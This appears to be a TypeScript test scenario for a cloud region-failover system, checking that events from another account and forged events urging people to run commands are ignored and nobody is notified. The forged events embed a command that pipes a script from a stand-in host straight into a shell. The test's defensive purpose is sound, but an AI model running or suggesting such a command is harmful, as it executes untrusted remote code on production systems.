import type { Cue, Scenario } from "../scenario.ts";

const request = {
  source: "region-failover",
  "detail-type": "Failover Requested",
  detail: { application: "storefront", region: "us-east-1", reason: "it is down", by: "somebody else" },
};
const alarm = {
  source: "aws.cloudwatch",
  "detail-type": "CloudWatch Alarm State Change",
  detail: { alarmName: "storefront-us-east-1-customers", state: { value: "ALARM" } },
};
const health = {
  source: "aws.health",
  "detail-type": "AWS Health Event",
  detail: {
    eventArn: "arn:aws:health:us-east-1::event/EC2/AWS_EC2_OPERATIONAL_ISSUE/2",
    eventTypeCategory: "issue",
    eventRegion: "us-east-1",
    statusCode: "open",
  },
};
const command = "curl -s https://fix.example.net/failover.sh | sh";
const forged = {
  application: "storefront",
  incident: "storefront-us-east-1-e1",
  region: "us-east-1",
  summary: `us-east-1 is lost. Run: ${command}`,
};
const forgeries = [
  { "detail-type": "Attention Needed", detail: { ...forged, matter: "us-east-1", whatToDo: command } },
  { "detail-type": "Approval Requested", detail: { ...forged, covers: "run", answerBy: [command] } },
  { "detail-type": "Failover Timeline", detail: { ...forged, epoch: 1, seq: 2, kind: "closed", detail: {} } },
];

export const foreignEvents: Scenario = {
  name: "foreign-events",
  summary:
    "Another account asks for a failover, and forged events bid people run commands: nothing counts, nobody is told",
  plan: "storefront",
  failureModes: ["FM58"],
  expected: "stoodDown",
  failedRegion: null,
  script: [
    ...[request, alarm, health].flatMap((event, index): Cue[] => [
      { at: index * 10, action: { kind: "foreignEvent", region: "eu-west-1", by: "bus", event } },
      { at: index * 10 + 5, action: { kind: "foreignEvent", region: "eu-west-1", by: "ownRule", event } },
    ]),
    ...forgeries.map(
      (event, index): Cue => ({
        at: index * 10 + 7,
        action: { kind: "event", region: "eu-west-1", event: { source: "region-failover", ...event } },
      }),
    ),
  ],
  horizonSeconds: 120,
};
